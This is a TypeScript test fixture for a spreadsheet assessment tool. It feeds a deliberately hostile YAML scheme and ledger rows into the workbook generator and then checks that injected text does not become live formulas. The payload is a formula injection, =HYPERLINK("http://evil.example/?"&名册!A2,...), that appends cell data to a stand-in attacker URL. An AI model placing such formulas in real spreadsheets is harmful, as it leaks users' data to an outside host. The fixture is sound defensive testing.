import { assess } from '../../src/assessment/assess';
import { planLiveSheet } from '../../src/custom-functions/live-sheet';
import { loadScheme } from '../../src/scheme/load';
import { planFormulas } from '../../src/sheets/formulas/plan-formulas';
import { planResult } from '../../src/sheets/result/result-sheet';
import { planSchemeSheet } from '../../src/sheets/scheme/scheme-sheet';
import type { CellValue } from '../../src/workbook/cells/cell';
import type { Edits } from '../../src/workbook/edits';
import type { Snapshot } from '../../src/workbook/snapshot';

/* A scheme from a stranger: wherever a text of its own may stand, one stands that Excel would calculate. */

/** What a text of the scheme would call if it came to life. */
export const CALLED = 'HYPERLINK';

const evil = (what: string): string => `=${CALLED}("http://evil.example/?"&名册!A2,"${what}")`;
const quoted = (what: string): string => `'${evil(what)}'`;

export const STRANGERS_SCHEME = `
办法: ${quoted('题')}
标识: 注入
版本: ${quoted('版')}
年度: 2026
满分: 100
序列: [${quoted('乡镇')}, 部门]
口径: {${quoted('径')}: {问: ${quoted('问')}, 取: ${quoted('取')}, 另可: [${quoted('另')}], 依据: ${quoted('据')}}}
参数: {${quoted('参')}: {值: 2, 依据: ${quoted('据')}}}
台账:
  名册: {依据: 一, 列: {单位: {类型: 单位, 必填: 是}, 序列: {类型: 文字, 必填: 是}}}
  指标:
    依据: 二
    列: {指标内容: {类型: 文字, 必填: 是}, 分值: {类型: 分, 必填: 是}, 目标值: {类型: 数, 必填: 是}, 完成值: {类型: 数, 必填: 是}}
    行:
      得分: {公式: "分值 × 完成值 ÷ 目标值", 类型: 分, 依据: 二}
得分项:
  ${quoted('项')}: {公式: "合计(指标, 得分)", 依据: 三}
排名: {按: ${quoted('项')}, 范围: 序列, 依据: 四}
等次:
  - {等次: ${quoted('等')}, 当: 其他, 依据: 五}
结果运用:
  - {做: ${quoted('用')}, 当: "次数(指标) > 0", 依据: 六}
检查:
  - {台账: 指标, 须: "分值 < 50", 说明: ${quoted('检')}, 依据: 七}
`;

/** The ledgers that it is about, with a unit and an indicator that look like formulas, too. */
export const STRANGERS_SHEETS: Readonly<Record<string, readonly (readonly CellValue[])[]>> = {
  名册: [
    ['单位', '序列'],
    ['甲镇', evil('乡镇')],
    ['乙局', '部门'],
  ],
  指标: [
    ['单位', '指标内容', '分值', '目标值', '完成值'],
    ['甲镇', '修路', 60, 1, 1],
    ['乙局', '种树', 40, 1, 1],
  ],
};

/** Everything that Kaoji writes of such a scheme: 考评结果 in values and in formulas, live results, the scheme itself. */
export function strangersPlans(snapshot: Snapshot): readonly (readonly [what: string, edits: Edits])[] {
  const { scheme, diagnostics } = loadScheme(STRANGERS_SCHEME, '注入.yaml');
  if (scheme === null) throw new Error(diagnostics.map(({ message }) => message).join('\n'));
  const assessment = assess(snapshot, scheme);
  return [
    ['考评结果', planResult(assessment, snapshot).edits],
    ['公式', planFormulas(assessment, snapshot).edits],
    ['实时', planLiveSheet(scheme, assessment, snapshot)],
    ['考评办法', planSchemeSheet({ 办法: evil('题'), 标识: '注入', 年度: 2026 })],
  ];
}

/** Formulas that call what only texts of the scheme name; texts within a formula are none. */
export function comeToLife(snapshot: Snapshot): string[] {
  return snapshot.sheets.flatMap(({ name, formulas }) =>
    formulas.flat().flatMap((formula) => {
      const code = formula?.replace(/"(?:[^"]|"")*"/gu, '""') ?? '';
      return code.includes(`${CALLED}(`) ? [`${name}: ${String(formula)}`] : [];
    }),
  );
}

/** How many cells show a text of the scheme that looks like a formula. */
export function textsKept(snapshot: Snapshot): number {
  return snapshot.sheets
    .flatMap(({ values }) => values.flat())
    .filter((value) => typeof value === 'string' && value.startsWith(`=${CALLED}`)).length;
}
